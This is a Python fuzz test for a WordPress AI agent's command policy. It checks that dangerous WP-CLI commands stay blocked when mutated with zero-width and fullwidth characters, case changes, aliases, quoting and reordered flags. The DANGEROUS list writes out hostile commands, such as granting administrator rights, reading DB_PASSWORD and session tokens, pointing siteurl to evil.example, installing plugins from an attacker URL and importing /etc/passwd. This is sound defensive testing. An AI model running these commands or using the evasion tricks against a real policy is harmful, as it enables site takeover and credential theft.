"""Fuzz: a known-dangerous command, mutated the ways an attacker would (ignorable and look-alike
code points, case, quoting, `=` vs space, repeated or extra flags, WP-CLI's aliases, a leading
`wp`, flags moved first), is never decided more permissively than the original."""

from __future__ import annotations

import shlex

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wp_agent.command_line.parsed_command import ParsedCommand
from wp_agent.policy import CommandPolicy, PolicyCategory

POLICY = CommandPolicy()

DANGEROUS = [
    "user meta update 2 wp_capabilities '{\"administrator\":true}' --format=json",
    "user meta update 2 wp_2_capabilities x",
    "user meta get 1 session_tokens",
    "user meta get 1 _two_factor_totp_key",
    "user update admin --user_activation_key=1700000000:hash",
    "user update 1 --user_email=attacker@evil.example",
    "user update 1 --user_pass=NewPass-1",
    "user update 1 --role=administrator",
    "user set-role 1 subscriber",
    "user create eve eve@example.com --role=editor",
    "user create eve eve@example.com --role=administrator",
    "user add-role 2 editor",
    "user add-cap 2 unfiltered_html",
    "super-admin add eve",
    "role create shop Shop",
    "cap add editor manage_options",
    "option get mailserver_pass",
    "option pluck my_plugin_settings api_key",
    "option update siteurl https://evil.example",
    "option update default_role administrator",
    "option update users_can_register 1",
    "option update wp_user_roles '{}' --format=json",
    "option update upload_path /var/www/html",
    "option patch insert cron 1700000000 '{}' --format=json",
    "option delete blogname",
    "post create --post_title=x --blog=http://ms.test/shop/",
    "post create --post_title=x --user=admin",
    "post create --post_type=customize_changeset --post_status=publish --post_content=x",
    "post delete 41",
    "post delete 41 --force",
    "post update 5 --post_status=trash",
    "comment delete 3",
    "cron event schedule importer_scheduled_cleanup now --0=7",
    "media import http://169.254.169.254/latest/meta-data/x.png",
    "media import /etc/passwd",
    "plugin install contact-form-7 --version=5.3.1 --activate",
    "plugin install akismet --force",
    "plugin install https://evil.example/x.zip",
    "plugin deactivate akismet",
    "theme activate twentytwentythree",
    "theme delete twentytwenty",
    "search-replace http://a https://b",
    "search-replace a b --all-tables",
    "db query 'SELECT 1'",
    "eval 'phpinfo();'",
    "config get DB_PASSWORD",
    "post list --exec=phpinfo();",
    "user list --fields=ID,user_pass",
    "site delete 3",
]

IGNORABLE = [
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\u00ad",
    "\ufeff",
    "\u0301",
    "\u20dd",
    "\ufe0f",
    "\u180e",
]
ALIASES = [
    (("option", "update"), ("option", "set")),
    (("db",), ("sql",)),
    (("site",), ("blog",)),
    (("theme", "delete"), ("theme", "uninstall")),
    (("plugin", "update"), ("plugin", "upgrade")),
    (("user", "meta", "update"), ("user", "meta", "set")),
    (("user", "meta"), ("user-meta",)),
    (("post", "meta"), ("post-meta",)),
]
EXTRA_FLAGS = ["--quiet", "--no-color", "--format=json", "--skip-plugins", "--debug", "--context=admin"]


def _words(command: str) -> list[str]:
    return shlex.split(command)


def _replace_head(words: list[str], old: tuple[str, ...], new: tuple[str, ...]) -> list[str]:
    positions = [i for i, w in enumerate(words) if not ParsedCommand.is_option(w)]
    head = [words[i] for i in positions[: len(old)]]
    if tuple(head) != old:
        return words
    out = [w for i, w in enumerate(words) if i not in positions[: len(old)]]
    return [*new, *out]


@st.composite
def mutated(draw: st.DrawFn, original: str) -> str:
    words = _words(original)
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(
            st.sampled_from(
                ["ignorable", "case", "fullwidth", "equals", "repeat", "extra", "alias", "flags_first", "wp"]
            )
        )
        index = draw(st.integers(0, len(words) - 1))
        word = words[index]
        if kind == "ignorable" and len(word) > 1:
            at = draw(st.integers(1, len(word) - 1))
            words[index] = word[:at] + draw(st.sampled_from(IGNORABLE)) + word[at:]
        elif kind == "case":
            words[index] = draw(st.sampled_from([word.upper(), word.lower(), word.title(), word.swapcase()]))
        elif kind == "fullwidth":
            words[index] = "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in word)
        elif kind == "equals" and word.startswith("--") and "=" in word:
            name, value = word.split("=", 1)
            words[index : index + 1] = [name, value]
        elif kind == "repeat" and word.startswith("--"):
            words.insert(index, word)  # a repeated flag (a repeated positional WP-CLI refuses)
        elif kind == "extra":
            words.insert(draw(st.integers(0, len(words))), draw(st.sampled_from(EXTRA_FLAGS)))
        elif kind == "alias":
            old, new = draw(st.sampled_from(ALIASES))
            words = _replace_head(words, old, new)
        elif kind == "flags_first":
            words = [w for w in words if w.startswith("--")] + [w for w in words if not w.startswith("--")]
        elif kind == "wp" and words[:1] != ["wp"]:
            words = ["wp", *words]
    style = draw(st.sampled_from(["join", "double", "mixed"]))
    if style == "double":
        return " ".join(
            '"' + w.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"' for w in words
        )
    if style == "mixed":
        return " ".join(
            shlex.quote(w) if draw(st.booleans()) else w if w and shlex.quote(w) == w else shlex.quote(w)
            for w in words
        )
    return shlex.join(words)


@st.composite
def cases(draw: st.DrawFn) -> tuple[str, str]:
    original = draw(st.sampled_from(DANGEROUS))
    return original, draw(mutated(original))


def test_every_seed_is_dangerous() -> None:
    permissive = [c for c in DANGEROUS if POLICY.classify(c).category.rank < PolicyCategory.DESTRUCTIVE.rank]
    assert permissive == []


@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cases())
def test_no_mutation_is_decided_more_permissively(case: tuple[str, str]) -> None:
    original, variant = case
    before = POLICY.classify(original)
    after = POLICY.classify(variant)
    assert after.category.rank >= before.category.rank, (variant, before.rule, after.rule, after.reason_ja)
